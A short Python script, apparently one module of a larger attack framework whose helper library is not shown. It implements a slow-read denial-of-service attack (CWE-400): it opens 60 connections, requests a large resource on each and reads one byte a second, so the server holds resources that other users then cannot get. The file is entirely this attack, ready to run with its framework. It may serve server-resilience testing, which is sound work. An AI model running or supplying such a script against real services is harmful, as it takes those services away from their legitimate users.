#!/usr/bin/env python3
"""Asks for something large on many connections and takes one byte a second of each: what is held for them is
missing to others (CWE-400)."""

from sender import Attack, arguments, request, waits_for_more


class SlowReader(Attack):
    def begin(self, sock):
        sock.sendall(request(self.path()))

    def step(self, sock):
        return waits_for_more(sock)


SlowReader(arguments(__doc__, connections=60), receive_buffer=4096).run()
